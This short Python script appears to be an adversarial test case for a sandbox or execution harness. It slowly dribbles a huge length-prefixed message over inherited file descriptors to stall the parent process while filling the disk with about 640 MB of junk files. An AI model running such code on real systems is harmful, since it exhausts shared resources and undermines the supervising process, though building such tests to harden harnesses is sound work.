# What it tries: Keep the parent listening to a long answer, byte by byte, while the disk fills (640 MB).
import os
import struct
import threading
import time

def talk():
    for number in range(3, 8):
        try:
            os.write(number, struct.pack(">I", 15_000_000))
        except OSError:
            continue
        while True:
            os.write(number, b"x")
            time.sleep(0.002)

threading.Thread(target=talk, daemon=True).start()
time.sleep(0.05)
gained = held = number = 0
block = b"0" * 1_000_000
while held < 640:
    number += 1
    try:
        with open(f"f{number}", "wb", buffering=0) as file:
            for _ in range(14):
                file.write(block)
                held += 1
                gained = held if held > 480 else 0
    except OSError:
        break
